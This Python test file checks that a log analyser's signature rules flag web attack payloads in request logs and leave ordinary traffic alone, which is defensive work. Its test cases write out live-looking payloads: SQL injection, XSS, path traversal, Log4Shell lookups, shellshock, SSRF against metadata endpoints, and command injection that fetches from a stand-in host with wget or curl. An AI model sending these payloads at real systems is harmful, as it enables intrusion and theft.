from __future__ import annotations

import polars as pl
import pytest

from file_parser import parse
from log_analyser_core.rules import signatures


def frame(path: str, query: str | None = None, ua: str = "Mozilla/5.0") -> pl.DataFrame:
    return pl.DataFrame({"path": [path], "query": [query], "user_agent": [ua]})


def matched(path: str, query: str | None = None, ua: str = "Mozilla/5.0") -> set[str]:
    row = signatures.matches(frame(path, query, ua)).row(0, named=True)
    return {name for name, hit in row.items() if hit}


@pytest.mark.parametrize(("path", "query", "ua", "expected"), [
    ("/item", "id=1%27%20OR%20%271%27%3D%271", "x", "sig-sqli"),
    ("/item", "id=1+UNION+ALL+SELECT+user,pass+FROM+users--", "x", "sig-sqli"),
    ("/item", "id=1%2527%20AND%20SLEEP(5)--", "x", "sig-sqli"),                          # double-encoded quote
    ("/item", "id=-1/*!50000UnIoN*//*!50000SeLeCt*/1,2", "x", "sig-sqli"),              # comments and case
    ("/search", "q=%3CScRiPt%3Ealert(1)%3C/script%3E", "x", "sig-xss"),
    ("/search", "q=%22%3E%3Csvg/onload=alert(document.domain)%3E", "x", "sig-xss"),
    ("/download", "file=..%252f..%252f..%252fetc%252fpasswd", "x", "sig-path-traversal"),  # double-encoded
    ("/static/..%c0%af..%c0%afetc/passwd", None, "x", "sig-path-traversal"),             # overlong slash
    ("/", None, "${jndi:ldap://198.51.100.7/a}", "sig-rce"),                             # log4shell in the UA
    ("/", None, "() { :; }; /bin/bash -c 'id'", "sig-rce"),                              # shellshock
    ("/ping", "host=127.0.0.1%3Bcat%20/etc/hosts", "x", "sig-rce"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None, "x", "sig-rce"),
    # Text4Shell lookups other than script:
    ("/search", "q=%24%7Bdns%3Aaddress%7C198.51.100.7%7D", "x", "sig-rce"),
    ("/search", "q=${url:UTF-8:http://198.51.100.7/}", "x", "sig-rce"),
    ("/search", "q=%2524%257Bscript%253Ajavascript%253Ajava.lang.Runtime%257D", "x", "sig-rce"),   # double-encoded
    # ThinkPHP routes
    ("/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", "x", "sig-rce"),
    ("/index.php", "s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=x", "x", "sig-rce"),
    # command injection after ';' (or '|', '`') in a parameter
    ("/cgi-bin/diag", "host=8.8.8.8;id", "x", "sig-rce"),
    ("/api/ping", "target=example.org%3Bwget+http%3A%2F%2F198.51.100.7%2Fx", "x", "sig-rce"),
    ("/api/ping", "target=example.org|uname$IFS-a", "x", "sig-rce"),
    # Tomcat's '..;/' normalisation bypass
    ("/app/..;/manager/html", None, "x", "sig-path-traversal"),
    # SSRF: a URL parameter aimed at an internal address
    ("/fetch", "url=http://127.0.0.1:8080/admin", "x", "sig-ssrf"),
    ("/proxy", "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "x", "sig-ssrf"),
    ("/img", "src=gopher://10.0.0.5:6379/_FLUSHALL", "x", "sig-ssrf"),
    ("/img", "src=http://user@192.168.1.1/", "x", "sig-ssrf"),
    ("/img", "src=http://[::1]:22/", "x", "sig-ssrf"),
    # HTML-entity-encoded script tags, raw and URL-encoded
    ("/search", "q=&lt;script&gt;alert(1)&lt;/script&gt;", "x", "sig-xss"),
    ("/search", "q=%26%23x3C%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26%23x3E%3B", "x", "sig-xss"),
    ("/search", "q=&#60script&#62alert(1)", "x", "sig-xss"),
    # base64 inside a lookup string is decoded beside it
    ("/", None, "${jndi:ldap://198.51.100.7/Basic/Command/Base64/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}", "sig-rce"),
])
def test_payloads_are_recognised(path, query, ua, expected):
    assert expected in matched(path, query, ua)


def test_base64_in_a_lookup_is_decoded_beside_it():
    sent = "/Basic/Command/Base64/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3g="
    text = signatures.decode_text(pl.Series([sent]))
    assert text.item().splitlines() == [sent.lower(), "curl http://198.51.100.7/x"]


@pytest.mark.parametrize(("referer", "vhost", "expected"), [
    ("${jndi:ldap://198.51.100.7/a}", None, "sig-rce"),                        # Log4Shell in the Referer
    ("https://example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E", None, "sig-xss"),
    (None, "${jndi:dns://198.51.100.7/h}", "sig-rce"),                        # in the Host header
    ("http://www.secrepo.com/?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", None, "sig-rce"),
])
def test_every_logged_field_is_inspected(referer, vhost, expected):
    events = frame("/", None, "Mozilla/5.0").with_columns(pl.Series("referer", [referer], pl.String),
                                                         pl.Series("vhost", [vhost], pl.String))
    row = signatures.matches(events).row(0, named=True)
    assert {name for name, hit in row.items() if hit} == {expected}


def test_an_ordinary_referer_is_not_a_payload():
    # a real referer from the elastic blog log: a forum topic about PowerShell
    referer = "http://community.spiceworks.com/topic/269270-how-can-i-pull-cpu-temperature-through-powershell-scripting"
    events = frame("/blog/tags/wmi").with_columns(pl.Series("referer", [referer], pl.String))
    assert not any(signatures.matches(events).row(0))




@pytest.mark.parametrize(("path", "query", "ua"), [
    ("/blog/select-the-best-union-for-you", None, "Mozilla/5.0"),
    ("/search", "q=rock+and+roll&page=2", "Mozilla/5.0"),
    ("/products", "sort=price&order=desc&id=514125", "Mozilla/5.0"),
    ("/", None, "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10"),
    ("/", None, "Mozilla/5.0 (Linux; U; Android 4.1.2; id-id; GT-S6310 Build/JZO54K) AppleWebKit/534.30"),
    ("/docs/script-tutorial", "topic=onboarding", "Mozilla/5.0"),
    ("/files/archive.tar.gz", None, "Wget/1.21"),
    # near misses of the payloads above
    ("/search", "q=${price}&currency=EUR", "Mozilla/5.0"),                            # a template left in a link
    ("/blog/think-app-view", "s=/index/index", "Mozilla/5.0"),
    ("/menu", "items=soup;idli;catering", "Mozilla/5.0"),                            # ';' lists of words
    ("/app/manager/html", "a=b;jsessionid=1", "Mozilla/5.0"),
    ("/fetch", "url=https://example.org/feed.xml&next=http://cdn.example.net/a.png", "Mozilla/5.0"),
    ("/go", "to=http://10.example.org/", "Mozilla/5.0"),                              # a host name, not an address
    ("/search", "q=fish+%26amp%3B+chips", "Mozilla/5.0"),
    ("/docs/base64", "q=base64+encoding+of+abcdefghij", "Mozilla/5.0"),
    ("/blog/tags/powershell-scripting", None, "Mozilla/5.0"),
])
def test_ordinary_requests_do_not_match(path, query, ua):
    assert matched(path, query, ua) == set()


def test_url_decode_is_one_round():
    decoded = pl.select(signatures.url_decode(pl.lit("%2527%41%u0041"))).item()
    assert decoded == "%27AA"


def test_detect_groups_by_client_with_examples(tmp_path):
    lines = [f'203.0.113.9 - - [10/Mar/2026:10:00:{i:02d} +0000] "GET /item?id={i}%27%20OR%201=1-- HTTP/1.1" '
             f'200 10 "-" "x"' for i in range(5)]
    lines.append('198.51.100.1 - - [10/Mar/2026:10:00:09 +0000] "GET /item?id=3 HTTP/1.1" 200 10 "-" "x"')
    log = tmp_path / "a.log"
    log.write_text("\n".join(lines) + "\n")
    evidence = signatures.detect(parse([str(log)]).events)
    assert set(evidence) == {"203.0.113.9"}
    (item,) = evidence["203.0.113.9"]
    assert item.rule_id == "sig-sqli" and item.count == 5 and item.kind == "signature"
    assert [x.line_number for x in item.examples] == [1, 2, 3]


def test_real_traffic_has_few_signature_hits(shared):
    events = parse([str(shared / "public" / "elastic_examples" / "apache_logs")]).events
    assert len(signatures.detect(events)) <= 2   # of 1,753 clients of a real blog


@pytest.mark.parametrize("chunk_events", [97, 1000, 4096])
def test_matching_in_chunks_finds_what_one_pass_finds(shared, chunk_events):
    # a scanner's payloads among its crawling; the chunk sizes split the rows at different places,
    # so that a value repeated across chunks is matched in each
    events = parse([str(shared / "public" / "ocatak_apache-http-logs" / "acunetix.txt")]).events
    whole = signatures.matches(events)
    # 300 from the request targets and user agents, 37 more from the Referer (DOM-XSS probes, shellshock)
    assert whole.height == events.height and whole.select(pl.any_horizontal(pl.all())).to_series().sum() == 337
    assert signatures.matches(events, chunk_events=chunk_events).equals(whole)
    assert signatures.matches(events.head(0), chunk_events=chunk_events).columns == whole.columns
